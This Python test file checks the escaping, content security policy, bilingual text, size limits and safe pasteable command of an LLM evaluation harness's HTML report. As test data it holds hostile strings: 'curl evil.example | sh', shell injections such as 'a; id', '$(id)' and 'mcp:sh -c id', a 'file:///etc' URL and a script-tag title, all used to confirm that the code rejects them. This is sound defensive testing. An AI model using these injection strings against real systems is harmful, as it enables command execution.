"""The HTML report page: self-contained, escaped, failures first, in two languages."""

import base64
import hashlib
import re
import shlex
from collections.abc import Sequence
from dataclasses import replace
from functools import cache

import pytest

from lhkit.base.locales import load_catalog
from lhkit.harness.figures.metrics import Summary, summarise
from lhkit.harness.records.record import SampleRecord, Verdict
from lhkit.harness.report import page_samples
from lhkit.harness.report.markdown import markdown
from lhkit.harness.report.metadata import eval_command, run_metadata
from lhkit.harness.report.page import html_page
from lhkit.harness.results import results
from lhkit.harness.results.compare import compare
from lhkit.harness.results.results import Run
from lhkit.toolset import criteria_of, load
from tests.harness.report.runs import (
    ENGLISH,
    FULL_RUN,
    HOSTILE_RUN,
    KOREAN,
    Parsed,
    full_record,
    run_of,
)

pytestmark = pytest.mark.slow


@cache
def page(locale: str = "ko") -> str:
    compared = compare(FULL_RUN, FULL_RUN)
    return html_page(FULL_RUN, load_catalog(locale), name="gemma", comparison=compared)


SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def test_page_has_no_external_reference() -> None:
    html = page()
    shown = Parsed(html)
    addresses = [
        value or ""
        for _, attributes in shown.elements
        for key, value in attributes.items()
        if key in {"src", "srcset", "href", "action", "data", "poster", "xlink:href"}
    ]
    assert addresses
    assert [each[:40] for each in addresses if not each.startswith(("#", "data:image/svg"))] == []
    assert not {"link", "iframe", "object", "embed"} & {name for name, _ in shown.elements}
    assert "@import" not in html
    assert "url(" not in html
    for address in addresses:
        if address.startswith("data:"):
            svg = base64.b64decode(address.partition("base64,")[2]).decode()
            assert re.findall(r'(?:href|src)="(?!#)', svg) == []


def test_page_style_does_not_truncate_reasons() -> None:
    """A truncated `add_note was expected and…` would have the opposite meaning."""
    styles = page().partition("</style>")[0]
    rules = re.findall(r"([^{}]*\.lhr-reason) \{([^}]*)\}", styles)
    assert rules
    for _, rule in rules:
        assert not re.search("ellipsis|nowrap|hidden|clamp|max-height", rule)


def test_page_policy_allows_only_its_script() -> None:
    html = page()
    (script,) = SCRIPT.findall(html)
    sha256 = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{sha256}'\"" in html
    assert "default-src 'none'" in html


def test_page_of_hostile_text_has_no_script_handler_or_unknown_element() -> None:
    tame = Parsed(page())
    compared = compare(FULL_RUN, HOSTILE_RUN)
    html = html_page(HOSTILE_RUN, KOREAN, name="</title><script>", comparison=compared)
    wild = Parsed(html)
    assert len(wild.all("script")) == 1
    assert {name for name, _ in wild.elements} <= {name for name, _ in tame.elements}
    assert [key for _, attributes in wild.elements for key in attributes if key[:2] == "on"] == []
    html.encode("utf-8")  # no lone surrogate is left
    assert not re.search("[\u202e\u2066\u2028\x1b\x00]", html)


@pytest.mark.parametrize(
    ("locale", "heading", "hardware"),
    [
        ("ko", "통과율", "운영체제 Linux, 코어 2"),
        ("en", "Pass rates", "system Linux, cores 2"),
    ],
)
def test_page_is_in_the_language_of_the_catalog(locale: str, heading: str, hardware: str) -> None:
    html = page(locale)
    assert f'<html lang="{locale}">' in html
    assert heading in html
    assert all(value in html for value in ("0123abc", hardware))


def test_page_has_landmarks_names_and_descriptions() -> None:
    shown = Parsed(page())
    for landmark in ("header", "main", "nav", "h1"):
        assert len(shown.all(landmark)) == 1, landmark
    assert shown.all("nav")[0]["aria-label"]
    assert all(image["alt"] for image in shown.all("img"))
    assert len(shown.all("img")) >= 4
    assert all(head.get("scope") for head in shown.all("th"))
    ids = [each["id"] for _, each in shown.elements if "id" in each]
    assert len(ids) == len(set(ids))
    named = [section.get("aria-labelledby") for section in shown.all("section")]
    assert {name for name in named if name} <= set(ids)


def test_run_metadata_has_model_versions_commit_and_command() -> None:
    assert {*dict(run_metadata(FULL_RUN, FULL_RUN.summary(), KOREAN)).values()} >= {
        "gemma · vllm 0.32 · 계산 자료형 알 수 없음 · http://127.0.0.1:8000",
        "max_tokens 128, temperature 0.0",
        "python 3.11.7, lhkit 0.1.0",
        "0123abc",
        "운영체제 Linux, 코어 2",
        "lhkit eval --model gemma --base-url http://127.0.0.1:8000 --dialect json",
    }


@pytest.mark.parametrize(
    "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
)
def test_eval_command_is_not_that_of_the_manifest(typed: list[str]) -> None:
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"command": typed}))
    assert eval_command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
    assert typed[-1] not in markdown(run, load_catalog("en"), name="x")


def test_eval_command_has_one_address_of_a_run_resumed_at_another() -> None:
    summary = FULL_RUN.summary()
    models = [replace(model, base_url=f"{model.base_url} http://b:1") for model in summary.models]
    command = eval_command(FULL_RUN, replace(summary, models=tuple(models))).split()
    assert command.count("--base-url") == 1
    assert command[command.index("--base-url") + 1] == "http://127.0.0.1:8000"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("eval . --model m --name x", "lhkit eval . --model m --name x"),
        (
            "eval 'my scenarios/새 것.yaml' --toolset 'my tools.py:toolset' --only 'a*' --tag '$x'",
            "lhkit eval 'my scenarios/새 것.yaml' --toolset 'my tools.py:toolset' --only 'a*' "
            "--tag '$x'",
        ),
        (
            "eval a.yaml --toolset mcp:mcp.json#notes --base-url=http://127.0.0.1:8000",
            "lhkit eval a.yaml --toolset 'mcp:mcp.json#notes' --base-url=http://127.0.0.1:8000",
        ),
        ('eval a.yaml --tag "it\'s"', "lhkit eval a.yaml --tag 'it'\"'\"'s'"),
        ("eval a.yaml --html ~/.bashrc --junit=x.xml --limit 3", "lhkit eval a.yaml --limit 3"),
        *(
            (f"eval a.yaml {unsafe}", "lhkit eval --model gemma --base-url")
            for unsafe in (
                "--toolset 'mcp:sh -c id'",
                "--toolset='mcp:sh -c id'",
                "--toolset mcp:evil",
                "--base-url http://user:key@host",
                "--tag 'a\nb'",
                "--tag '\x1b[31m'",
                f"--tag {'x' * 5_000}",
            )
        ),
        ("serve --port 1", "lhkit eval --model gemma --base-url"),
    ],
)
def test_eval_command_can_be_pasted_and_runs_nothing_else(typed: str, shown: str) -> None:
    command = ["lhkit", *shlex.split(typed)]
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"command": command}))
    assert eval_command(run, run.summary()).startswith(shown)
    if "gemma" not in shown:
        assert eval_command(run, run.summary()) == shown
        assert f"\n{shown}\n" in markdown(run, load_catalog("en"), name="x")
        assert shlex.split(shown) == [w for w in command if "html" not in w] or "html" in typed


@pytest.mark.parametrize(
    ("toolset", "shown"), [("Kitchen", "--toolset Kitchen"), ("mcp:sh -c id", None), ("--x", None)]
)
def test_eval_command_never_runs_other_tools(toolset: str, shown: str | None) -> None:
    changes = {"command": [], "toolset": toolset}
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update=changes))
    command = eval_command(run, run.summary())
    assert shown in command if shown else command == ""


@pytest.mark.parametrize(
    "identity",
    [
        {"model": "--toolset=evil.py:x"},
        {"model": "a; id"},
        {"base_url": "file:///etc"},
        {"base_url": "http://x/$(id)"},
        {"dialect": "`id`"},
        {"constraint": "a b"},
    ],
)
def test_eval_command_is_empty_for_unsafe_identities(identity: dict[str, str]) -> None:
    summary = FULL_RUN.summary()
    model = replace(summary.models[0], **identity)
    assert eval_command(FULL_RUN, replace(summary, models=(model,))) == ""


def test_page_of_an_empty_run() -> None:
    assert "<main>" in html_page(Run(records=()), KOREAN, name="empty")


def test_page_with_a_baseline_has_both_transcripts() -> None:
    before = run_of(full_record("one"), name="before")
    after = run_of(full_record("one", verdict=Verdict.PASS), name="after")
    html = html_page(after, ENGLISH, name="after", comparison=compare(before, after))
    assert "Comparison with the baseline" in html
    assert "Improvements (1):" in html
    section = html.partition('id="flips"')[2].partition("</section>\n")[0]
    assert section.count('class="lhr-trace"') == 2


@pytest.mark.usefixtures("korean")
@pytest.mark.parametrize(
    ("toolset", "is_shown"), [(None, True), ("life-helper", True), ("garage", False)]
)
def test_criterion_descriptions_are_shown_for_life_helper_only(
    toolset: str | None, *, is_shown: bool
) -> None:
    ac = FULL_RUN.records[0].ac
    assert ac is not None
    words = criteria_of(load())[ac]["ko"]
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"toolset": toolset}))
    for report in (html_page(run, KOREAN, name="x"), markdown(run, KOREAN, name="x")):
        assert ac in report
        assert (words in report) is is_shown
    assert (words in run._repr_html_()) is is_shown


def test_page_of_a_run_without_criteria_has_no_chart_and_filter_of_them() -> None:
    before = run_of(full_record("one", verdict=Verdict.PASS, ac=None))
    run = run_of(full_record("one", ac=None))
    html = html_page(run, ENGLISH, name="x", comparison=compare(before, run))
    parsed = Parsed(html)
    assert "ac" not in [each.get("name") for each in parsed.all("select")]
    alts = [str(each.get("alt")) for each in parsed.all("img")]
    assert alts
    assert not [alt for alt in alts if "criterion" in alt]
    assert "None" not in parsed.text


def test_page_selects_samples_without_a_criterion_among_others() -> None:
    run = run_of(full_record("one", ac=None), full_record("two", ac="AC-1"))
    parsed = Parsed(html_page(run, KOREAN, name="x"))
    values = [each.get("value") for each in parsed.all("option")]
    samples = {each["data-ac"] for each in parsed.all("details") if "data-ac" in each}
    assert samples == {" ", "AC-1"}
    assert samples <= set(values)
    assert "AC 없음" in parsed.text


def large_run(scenarios: int, repeats: int = 1) -> Run:
    """Return a run with a sample of each kind for each scenario and repeat."""
    return run_of(
        *(
            full_record(f"{kind}-{n}", repeat, **changes)
            for kind, changes in {
                "passed": {"verdict": Verdict.PASS, "violations": (), "reasons": ()},
                "invalid": {"verdict": Verdict.INVALID, "violations": ()},
                "failed": {"violations": ()},
                "harmful": {"verdict": Verdict.PASS},
            }.items()
            for n in range(scenarios)
            for repeat in range(repeats)
        )
    )


def sample_ids(html: str) -> list[str]:
    return re.findall(r'id="s-([\w-]+-\d+)"', html)


def test_page_of_a_large_run_is_bounded_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page_samples, "MAX_SAMPLES", 3)
    html, larger = (html_page(large_run(n), ENGLISH, name="x") for n in (8, 16))
    assert (
        "3 of 8 with violations that occurred, 3 of 8 failed, 3 of 8 invalid, 3 of 8 passed. "
        "All of them: lhkit report RUN --all"
    ) in Parsed(html).text
    assert (
        "일어난 위반 8개 중 3개, 실패 8개 중 3개, 무효 8개 중 3개, 통과 8개 중 3개. "
        "전체는 lhkit report RUN --all"
    ) in Parsed(html_page(large_run(8), KOREAN, name="x")).text
    assert sample_ids(html) == sample_ids(larger)
    assert [each.partition("-")[0] for each in sample_ids(html)] == [
        *("harmful", "harmful", "harmful", "failed", "failed", "failed"),
        *("invalid", "invalid", "invalid", "passed", "passed", "passed"),
    ]
    assert "12</output>" in html
    elements = [len(Parsed(each).elements) for each in (html, larger)]
    assert elements[0] == elements[1]
    assert len(larger) < 1.05 * len(html)  # other numbers in tables and charts


def test_page_has_all_samples_of_an_ordinary_run_and_on_request(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run = large_run(4)
    html = html_page(run, ENGLISH, name="x")
    assert len(sample_ids(html)) == 16
    assert "A part of the samples" not in html
    monkeypatch.setattr(page_samples, "MAX_SAMPLES", 3)
    assert html_page(run, ENGLISH, name="x", is_whole=True) == html


def test_samples_of_a_large_run_are_of_as_many_scenarios_as_possible(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(page_samples, "MAX_SAMPLES", 3)
    run = large_run(2, repeats=4)
    occurred, failed, *_ = page_samples.sample_parts(run, ENGLISH)
    assert sample_ids("".join(failed.lines)) == ["failed-0-0", "failed-0-1", "failed-1-0"]
    monkeypatch.setattr(page_samples, "MAX_SAMPLE_BYTES", 10 * len(occurred.lines[0].encode()))
    _, failed, *_ = page_samples.sample_parts(run, ENGLISH)
    assert sample_ids("".join(failed.lines)) == ["failed-0-0", "failed-1-0"]


def test_page_of_long_samples_has_a_bounded_size(monkeypatch: pytest.MonkeyPatch) -> None:
    run = large_run(10)
    whole = page_samples.sample_parts(run, ENGLISH)
    one_bytes = len(whole[0].lines[0].encode())
    monkeypatch.setattr(page_samples, "MAX_SAMPLE_BYTES", 20 * one_bytes)
    parts = page_samples.sample_parts(run, ENGLISH)
    assert sum(len(line.encode()) for part in parts for line in part.lines) <= 20 * one_bytes
    assert [(part.kind, part.count) for part in parts] == [
        *(("occurred", 10), ("fail", 10), ("invalid", 10), ("pass", 10)),
    ]
    assert all(0 < len(part.lines) < 10 for part in parts)
    few = page_samples.sample_parts(run_of(*large_run(1).records[:2]), ENGLISH)
    assert [part.left_out for part in few] == [0, 0]  # what one does not need is left to others


def test_page_leaves_out_a_sample_that_is_too_large_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    long = tuple(f"reason {n}" for n in range(5_000))
    run = run_of(full_record("long", reasons=long), full_record("short"))
    monkeypatch.setattr(page_samples, "MAX_SAMPLE_BYTES", 100_000)
    html = html_page(run, ENGLISH, name="x")
    assert sample_ids(html) == ["short-0"]
    assert "1 of 2 with violations that occurred" in html


def test_page_of_a_large_comparison_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    before = large_run(8)
    after = run_of(*(full_record(each.sample_id.scenario, verdict=Verdict.PASS)
                     for each in before.records))  # fmt: skip
    flips = compare(before, after)
    monkeypatch.setattr(page_samples, "MAX_SAMPLES", 3)
    html = html_page(after, ENGLISH, name="x", comparison=flips)
    section = html.partition('id="flips"')[2].partition("</section>\n")[0]
    assert section.count("<noscript>") == 3
    more = len(flips.improvements) - 3
    assert f"… and {more} more: lhkit report RUN --baseline BASELINE --all" in section
    whole = html_page(after, ENGLISH, name="x", comparison=flips, is_whole=True)
    assert "--all" not in whole
    section = whole.partition('id="flips"')[2].partition("</section>\n")[0]
    assert section.count("<noscript>") == len(flips.improvements)


def test_report_limits_keep_a_page_below_10_megabytes() -> None:
    assert page_samples.MAX_SAMPLE_BYTES + page_samples.MAX_FLIP_BYTES < 9_500_000


def test_page_sums_up_a_run_once(monkeypatch: pytest.MonkeyPatch) -> None:
    counts: list[int] = []

    def count(records: Sequence[SampleRecord]) -> Summary:
        counts.append(len(records))
        return summarise(records)

    monkeypatch.setattr(results, "summarise", count)
    html_page(run_of(*FULL_RUN.records), ENGLISH, name="x")
    assert counts == [3]
